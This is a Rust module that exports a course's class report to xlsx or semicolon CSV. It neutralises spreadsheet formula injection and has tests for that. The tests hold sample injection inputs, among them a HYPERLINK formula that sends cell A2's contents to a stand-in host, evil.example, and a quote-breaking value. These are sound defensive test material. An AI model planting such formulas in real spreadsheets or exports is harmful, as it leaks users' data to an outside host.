//! The class report for the mentor and BKPSDM: one row per learner per module, as a real
//! spreadsheet (.xlsx) or as CSV. Headers, module names and standards are words from Fluent
//! (`report-sheet-*`, the modules' titles, `standard-*`), never ids.
//!
//! The xlsx has the NIP as text (all 18 digits kept), dates as real dates, a bold header
//! row with filters, and the header frozen while scrolling.
//!
//! The CSV is for programs that want plain text: UTF-8 with a byte order mark (Excel on
//! Windows otherwise reads it in the ANSI code page), fields separated by `;` (what Excel
//! with Indonesian regional settings expects; LibreOffice asks), times as
//! `YYYY-MM-DD HH:MM`, and the NIP written as `="…"` so that neither Excel nor Calc turns
//! it into 1,98E+17.

use crate::course::{Course, standard_name};
use crate::i18n::Translator;
use crate::store::ReportRow;
use jiff::tz::TimeZone;
use std::io::Write;

/// The report's column headers, in the translator's language.
pub fn header(tr: &Translator) -> Vec<String> {
    [
        "report-sheet-name",
        "report-sheet-nip",
        "report-sheet-unit",
        "report-sheet-module",
        "report-sheet-done",
        "report-sheet-total",
        "report-sheet-score",
        "report-sheet-passed",
        "report-sheet-passed-on",
        "report-sheet-last-active",
        "report-sheet-standards",
    ]
    .iter()
    .map(|id| tr.tr(id))
    .collect()
}

/// One row's cells as words (dates as `YYYY-MM-DD HH:MM` in `tz`).
fn cells(r: &ReportRow, course: &Course, tr: &Translator, tz: &TimeZone) -> Vec<String> {
    let module = course
        .modules
        .iter()
        .find(|m| m.id == r.module)
        .map_or_else(|| r.module.clone(), |m| tr.tr(&m.title));
    let standards: Vec<String> = r.standards.iter().map(|s| standard_name(tr, s)).collect();
    vec![
        r.name.clone(),
        r.nip.clone().unwrap_or_default(),
        r.unit.clone().unwrap_or_default(),
        module,
        r.done.to_string(),
        r.total.to_string(),
        r.score.map(|s| s.to_string()).unwrap_or_default(),
        passed_word(r, tr),
        r.passed_at.map(|t| stamp(t, tz)).unwrap_or_default(),
        r.last_active.map(|t| stamp(t, tz)).unwrap_or_default(),
        standards.join("; "),
    ]
}

fn passed_word(r: &ReportRow, tr: &Translator) -> String {
    match (r.score, r.passed_at) {
        (_, Some(_)) => tr.tr("report-yes"),
        (Some(_), None) => tr.tr("report-no"),
        (None, None) => String::new(),
    }
}

fn zoned(ms: i64, tz: &TimeZone) -> Option<jiff::Zoned> {
    jiff::Timestamp::from_millisecond(ms)
        .ok()
        .map(|t| t.to_zoned(tz.clone()))
}

fn stamp(ms: i64, tz: &TimeZone) -> String {
    zoned(ms, tz).map_or_else(String::new, |z| z.strftime("%Y-%m-%d %H:%M").to_string())
}

/// Writes the report as CSV (see the module docs).
pub fn write_csv(
    rows: &[ReportRow],
    course: &Course,
    tr: &Translator,
    tz: &TimeZone,
    out: &mut impl Write,
) -> std::io::Result<()> {
    out.write_all("\u{feff}".as_bytes())?;
    let mut w = csv::WriterBuilder::new()
        .delimiter(b';')
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    w.write_record(header(tr))?;
    for r in rows {
        let c: Vec<String> = cells(r, course, tr, tz)
            .into_iter()
            .enumerate()
            .map(|(i, cell)| {
                if i == 1 && !cell.is_empty() && cell.chars().all(|ch| ch.is_ascii_digit()) {
                    format!("=\"{cell}\"")
                } else {
                    as_text(&cell).into_owned()
                }
            })
            .collect();
        w.write_record(&c)?;
    }
    w.flush()?;
    Ok(())
}

/// A cell that Excel or Calc would take as a formula (it begins with `=`, `+`, `-`, `@`, a
/// tab or a carriage return) gets a leading apostrophe, so it is shown as the text it is: a
/// learner's name typed on a kiosk keyboard, or carried in from another laptop, must not run
/// as `=HYPERLINK(…)` on the mentor's computer. (Only a NIP of digits is written as `="…"`.)
/// In the xlsx every such cell is a string cell, never a formula.
pub fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The report as an .xlsx file's bytes (see the module docs).
pub fn xlsx(
    rows: &[ReportRow],
    course: &Course,
    tr: &Translator,
    tz: &TimeZone,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name(tr.tr("report-sheet-title"))?;
    let bold = Format::new().set_bold().set_text_wrap();
    let when = Format::new().set_num_format("dd-mm-yyyy hh:mm");
    let head = header(tr);
    for (c, h) in head.iter().enumerate() {
        sheet.write_string_with_format(0, col(c), h, &bold)?;
    }
    for (i, r) in rows.iter().enumerate() {
        let row = u32::try_from(i + 1).unwrap_or(u32::MAX);
        let words = cells(r, course, tr, tz);
        for (c, w) in words.iter().enumerate() {
            match c {
                4 | 5 => {
                    sheet.write_number(
                        row,
                        col(c),
                        to_f64(if c == 4 { r.done } else { r.total }),
                    )?;
                }
                6 => {
                    if let Some(s) = r.score {
                        sheet.write_number(row, col(c), f64::from(s))?;
                    }
                }
                8 | 9 => {
                    let t = if c == 8 { r.passed_at } else { r.last_active };
                    if let Some(z) = t.and_then(|t| zoned(t, tz)) {
                        let d = ExcelDateTime::from_ymd(
                            u16::try_from(z.year()).unwrap_or(1900),
                            u8::try_from(z.month()).unwrap_or(1),
                            u8::try_from(z.day()).unwrap_or(1),
                        )?
                        .and_hms(
                            u16::try_from(z.hour()).unwrap_or(0),
                            u8::try_from(z.minute()).unwrap_or(0),
                            0,
                        )?;
                        sheet.write_datetime_with_format(row, col(c), &d, &when)?;
                    }
                }
                // Names, the NIP, units, modules and words: always text.
                _ => {
                    if !w.is_empty() {
                        sheet.write_string(row, col(c), w)?;
                    }
                }
            }
        }
    }
    let widths = [
        28.0, 22.0, 26.0, 20.0, 10.0, 10.0, 12.0, 10.0, 17.0, 17.0, 60.0,
    ];
    for (c, w) in widths.iter().enumerate() {
        sheet.set_column_width(col(c), *w)?;
    }
    let last_row = u32::try_from(rows.len()).unwrap_or(u32::MAX);
    sheet.autofilter(0, 0, last_row, col(head.len().saturating_sub(1)))?;
    sheet.set_freeze_panes(1, 0)?;
    book.save_to_buffer()
}

fn col(c: usize) -> u16 {
    u16::try_from(c).unwrap_or(u16::MAX)
}

fn to_f64(n: usize) -> f64 {
    u32::try_from(n).map_or(f64::MAX, f64::from)
}

/// The file name of the class report of `date`: `laporan-kelas-YYYY-MM-DD.xlsx` (or `.csv`).
pub fn file_name(date: jiff::civil::Date, extension: &str) -> String {
    format!("laporan-kelas-{date}.{extension}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rows() -> Vec<ReportRow> {
        vec![
            ReportRow {
                name: "Siti \"Ani\" Rahmawati, S.Pd".into(),
                nip: Some("198003152005011001".into()),
                unit: Some("Kecamatan Sukamaju".into()),
                module: "email".into(),
                done: 11,
                total: 11,
                score: Some(90),
                // 2026-02-03 04:05 UTC
                passed_at: Some(1_770_091_500_000),
                last_active: Some(1_770_091_500_000),
                standards: vec!["northstar-email-11".into(), "northstar-email-8".into()],
            },
            ReportRow {
                name: "Budi Santoso".into(),
                nip: None,
                unit: None,
                module: "dasar".into(),
                done: 2,
                total: 6,
                score: Some(60),
                passed_at: None,
                last_active: None,
                standards: vec![],
            },
        ]
    }

    #[test]
    fn the_csv_uses_semicolons_words_and_keeps_the_nip_whole() {
        let content = crate::course::load(None);
        let tr = content.catalog.translator(crate::i18n::Lang::Id);
        let mut out = Vec::new();
        write_csv(&rows(), &content.course, &tr, &TimeZone::UTC, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert!(
            lines[0].starts_with("\u{feff}Nama;NIP;Unit kerja;Modul;"),
            "{}",
            lines[0]
        );
        assert_eq!(
            lines[1],
            "\"Siti \"\"Ani\"\" Rahmawati, S.Pd\";\"=\"\"198003152005011001\"\"\";\
             Kecamatan Sukamaju;Email dinas;11;11;90;Ya;2026-02-03 04:05;2026-02-03 04:05;\
             \"Memakai Ke, Cc dan Bcc dengan tepat; Melampirkan file pada email\""
        );
        assert!(lines[2].starts_with("Budi Santoso;;;Dasar"), "{}", lines[2]);
        assert!(lines[2].contains(";60;Belum;"), "{}", lines[2]);
        assert!(!text.contains("northstar-"), "never a raw id");
    }

    /// A name or unit that looks like a formula is written so that Excel and Calc show it as
    /// text; so is a NIP that is not only digits.
    #[test]
    fn report_cells_that_look_like_formulas_are_text() {
        let content = crate::course::load(None);
        let tr = content.catalog.translator(crate::i18n::Lang::Id);
        let row = |name: &str, nip: &str, unit: &str| ReportRow {
            name: name.to_owned(),
            nip: Some(nip.to_owned()),
            unit: Some(unit.to_owned()),
            module: "dasar".to_owned(),
            done: 0,
            total: 3,
            score: None,
            passed_at: None,
            last_active: None,
            standards: Vec::new(),
        };
        let rows = [
            row(
                "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")",
                "=1+1",
                "@SUM(A1)",
            ),
            row("+1-2", "\"),HYPERLINK(\"x", "-3"),
            row("\tTab", "", "Bagian Umum"),
        ];
        let mut out = Vec::new();
        write_csv(&rows, &content.course, &tr, &TimeZone::UTC, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let mut lines = text.lines().skip(1);
        assert_eq!(
            lines.next().unwrap(),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Klik\"\")\";'=1+1;'@SUM(A1);\
             Dasar: mouse dan keyboard;0;3;;;;;"
        );
        assert_eq!(
            lines.next().unwrap(),
            "'+1-2;\"\"\"),HYPERLINK(\"\"x\";'-3;Dasar: mouse dan keyboard;0;3;;;;;"
        );
        assert_eq!(
            lines.next().unwrap(),
            "'\tTab;;Bagian Umum;Dasar: mouse dan keyboard;0;3;;;;;"
        );
    }

    /// In the xlsx (the CLI's report and Kelas' button both make it here) a name, NIP or
    /// unit that looks like a formula is a plain string cell, shown exactly as typed: the
    /// workbook holds no formula at all.
    #[test]
    fn xlsx_cells_that_look_like_formulas_are_strings_not_formulas() {
        use calamine::{Data, Reader, Xlsx};
        let content = crate::course::load(None);
        let tr = content.catalog.translator(crate::i18n::Lang::Id);
        let evil = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klik\")";
        let mut row = rows()[0].clone();
        row.name = evil.to_owned();
        row.nip = Some("+1-2".to_owned());
        row.unit = Some("@SUM(A1)".to_owned());
        let bytes = xlsx(&[row], &content.course, &tr, &TimeZone::UTC).unwrap();
        let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let name = tr.tr("report-sheet-title");
        let range = book.worksheet_range(&name).unwrap();
        assert_eq!(range.get((1, 0)), Some(&Data::String(evil.into())));
        assert_eq!(range.get((1, 1)), Some(&Data::String("+1-2".into())));
        assert_eq!(range.get((1, 2)), Some(&Data::String("@SUM(A1)".into())));
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no formula in the workbook"
        );
    }

    #[test]
    fn the_xlsx_reads_back_with_text_nip_real_dates_and_a_header() {
        use calamine::{Data, Reader, Xlsx};
        let content = crate::course::load(None);
        let tr = content.catalog.translator(crate::i18n::Lang::Id);
        let bytes = xlsx(&rows(), &content.course, &tr, &TimeZone::UTC).unwrap();
        let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let name = tr.tr("report-sheet-title");
        let range = book.worksheet_range(&name).unwrap();
        assert_eq!(range.get_size(), (3, 11));
        assert_eq!(
            range.get((0, 0)),
            Some(&Data::String("Nama".into())),
            "the header row"
        );
        assert_eq!(
            range.get((1, 1)),
            Some(&Data::String("198003152005011001".into())),
            "the NIP is text, all 18 digits"
        );
        assert_eq!(range.get((1, 3)), Some(&Data::String("Email dinas".into())));
        assert_eq!(range.get((1, 6)), Some(&Data::Float(90.0)));
        match range.get((1, 8)) {
            // Excel's serial number of 2026-02-03 04:05.
            Some(Data::DateTime(d)) => assert!((d.as_f64() - 46_056.170_138).abs() < 1e-5),
            other => panic!("the date passed is a date: {other:?}"),
        }
        assert_eq!(range.get((2, 8)), Some(&Data::Empty));
        let standards = match range.get((1, 10)) {
            Some(Data::String(s)) => s.clone(),
            other => panic!("{other:?}"),
        };
        assert!(standards.contains("Bcc") && !standards.contains("northstar"));
    }
}
